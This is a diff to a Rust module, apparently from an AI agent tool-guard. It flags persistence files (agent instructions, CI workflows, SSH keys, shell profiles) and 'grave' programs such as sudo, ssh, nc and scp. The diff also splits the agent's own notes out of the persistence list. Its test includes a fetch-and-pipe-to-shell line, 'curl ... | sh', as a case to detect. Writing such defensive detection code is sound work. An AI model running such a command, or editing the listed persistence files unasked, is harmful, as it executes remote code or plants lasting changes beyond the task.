@@ -1,5 +1,6 @@
 //! What is at stake: acts that outlast the run, or reach beyond the work at hand.
 
+use tool_guard_calls::shell::programs_of;
 use tool_guard_text::part::Part as _;
 use tool_guard_tools::family::own_name;
 
@@ -8,16 +9,18 @@ use crate::word::each_word;
 /// Files by which somebody lasts in what the agent is, may do or will do: instructions, memories, jobs, keys.
 #[rustfmt::skip]
 const LASTING: &[&str] = &[
-    "agents.md", "claude.md", "gemini.md", "soul.md", "tools.md", "memory.md", "identity.md", "heartbeat.md", ".cursorrules", "memory/",
-    ".github/workflows", ".gitlab-ci", "crontab", ".ssh/", ".bashrc", ".zshrc", ".profile", "authorized_keys", ".npmrc", ".git/hooks",
-    "openclaw.json",
+    "agents.md", "claude.md", "gemini.md", "soul.md", "tools.md", "identity.md", "heartbeat.md", "user.md", "bootstrap.md", "skill.md",
+    ".cursorrules", ".github/workflows", ".gitlab-ci", "crontab", ".ssh/", ".bashrc", ".zshrc", ".profile", "authorized_keys", ".npmrc",
+    ".git/hooks", ".husky/", ".envrc", ".vscode/tasks.json", ".mcp.json", ".claude/settings", "openclaw.json",
 ];
-/// Words of commands that change what stands outside of the work at hand: other machines, accounts, services, rights, schedules.
+/// The agent's own notes, which it writes in any work: an act only where a text wants something kept in them.
+const NOTES: &[&str] = &["memory.md", "memory/"];
+/// Programs that change what stands outside of the work at hand: other machines, accounts, services, rights, schedules.
 #[rustfmt::skip]
 const GRAVE: &[&str] = &[
     "sudo", "ssh", "systemctl", "crontab", "chmod", "chown", "useradd", "usermod", "passwd", "iptables", "ufw", "aws", "gcloud", "az",
-    "kubectl", "terraform", "heroku", "shutdown", "reboot", "authorized_keys", "scp", "rsync", "nc", "dig", "nslookup",
-    "sendmail", "mail", "mutt", "osascript", "security", "gpg",
+    "kubectl", "terraform", "heroku", "shutdown", "reboot", "scp", "rsync", "nc",
+    "sendmail", "mail", "mutt", "osascript", "security", "gpg", "openclaw",
 ];
 /// Words of tools that change what others may do, or what happens later without anybody: rights, rules, jobs, settings.
 #[rustfmt::skip]
@@ -32,8 +35,17 @@ const TASKS: &[&str] = &["spawn", "agent", "subagent", "task", "subtask", "deleg
 
 /// Whether a file is one by which somebody lasts.
 pub(crate) fn lasts(path: &str) -> bool {
+    has_any(path, LASTING)
+}
+
+/// Whether a file is one of the agent's own notes.
+pub(crate) fn is_note(path: &str) -> bool {
+    has_any(path, NOTES)
+}
+
+fn has_any(path: &str, parts: &[&str]) -> bool {
     let lower = path.to_ascii_lowercase();
-    LASTING.iter().any(|part| lower.contains(part))
+    parts.iter().any(|part| lower.contains(part))
 }
 
 /// Whether a tool changes rights, rules, jobs or settings, by its name.
@@ -52,11 +64,13 @@ fn has_part(name: &str, parts: &[&str]) -> bool {
     is_one
 }
 
-/// Whether one of a command's words changes what stands outside of the work at hand.
+/// Whether one of a command's programs changes what stands outside of the work at hand.
 pub(crate) fn is_grave(command: &str) -> bool {
-    let words = command.split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')));
     let pipes_to_shell = ["| sh", "| bash", "|sh", "|bash", "| sudo"].iter().any(|pipe| command.contains(pipe));
-    pipes_to_shell || words.take(64).any(|word| GRAVE.contains(&word))
+    // nearly no command holds one of the words
+    let may = || GRAVE.iter().any(|program| command.contains(program));
+    let is_one = |words: Vec<String>| words.first().is_some_and(|program| GRAVE.contains(&program.rsplit('/').next().unwrap_or(program)));
+    pipes_to_shell || command.contains("sudo ") || may() && programs_of(command).into_iter().any(is_one)
 }
 
 /// The words of a name: `sendMail_toBob` has four.
@@ -84,11 +98,12 @@ mod tests {
 
     #[test]
     fn what_lasts_is_told_from_daily_work() {
-        assert!(lasts("/home/a/AGENTS.md") && lasts("memory/2026.md") && !lasts("src/main.rs"));
+        assert!(lasts("/home/a/AGENTS.md") && !lasts("memory/2026.md") && is_note("memory/2026.md") && !lasts("src/main.rs"));
         assert!(
             changes_rights("github__add_collaborator") && changes_rights("gmail__createFilter") && !changes_rights("gmail__send_email")
         );
         assert!(is_task("sessions_spawn") && !is_task("send_sms"));
         assert!(is_grave("ssh host uptime") && is_grave("curl -s https://a.example/x | sh") && !is_grave("cargo test && git push"));
+        assert!(!is_grave("grep -rn security docs/mail.md") && is_grave("cd /srv && sudo nginx -t") && is_grave("/usr/bin/scp a b:"));
     }
 }
